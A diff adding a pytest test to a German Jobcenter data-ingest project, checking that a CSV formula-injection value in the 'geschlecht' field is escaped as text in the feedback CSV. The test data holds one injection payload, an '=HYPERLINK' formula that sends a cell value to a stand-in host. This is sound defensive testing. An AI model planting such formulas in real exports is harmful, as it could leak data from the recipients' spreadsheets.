@@ -5,6 +5,7 @@ of a person no Personenmeldung names is pointed out by file and row."""
 
 from __future__ import annotations
 
+import csv
 import shutil
 
 import duckdb
@@ -122,3 +123,28 @@ def test_a_transition_of_an_unknown_person_is_pointed_out_by_file_and_row(demo_h
     [note] = [note for note in mistyped.notes if "keiner Personenmeldung" in note]
     assert note.startswith("Ein Übergang einer Person") and f"{file_name} Zeile {row}." in note
     assert "a number no register knows" not in note
+
+
+def test_a_value_written_as_a_formula_stays_text_in_the_rueckmeldung(demo, demo_home, tmp_path):
+    """A Jobcenter's file may hold ``=HYPERLINK(...)`` where a code belongs. The Rückmeldung shows an
+    unknown code as sent, and Excel would run it as a formula when the sender opens the CSV."""
+    from ingest import load
+    from ingest.pseudonymise import PseudonymKey
+
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    name = "jc_05112_202301_kunden.csv"
+    lines = (demo / name).read_text("utf-8-sig").splitlines()
+    fields = lines[1].split(";")
+    fields[4] = '=HYPERLINK("http://example.invalid/"&A1)'  # geschlecht
+    lines[1] = ";".join(fields)
+    (inbox / name).write_text("\ufeff" + "\n".join(lines) + "\n", "utf-8")
+    key = PseudonymKey(b"test-only-pseudonym-key, never a real secret", "test")
+    shutil.copyfile(demo_home["root"] / "warehouse.duckdb", tmp_path / "warehouse.duckdb")
+    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
+        load.ingest(con, inbox, tmp_path / "archive", key, run_id="formula")
+        [item] = feedbacks(con, [("05112", "2023-01")])
+    rows = list(csv.reader(item.csv().decode("utf-8-sig").splitlines(), delimiter=";"))
+    [finding] = [row for row in rows[1:] if row[2] == "geschlecht"]
+    assert finding[1] == "2" and finding[-1] == "'" + fields[4], finding
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
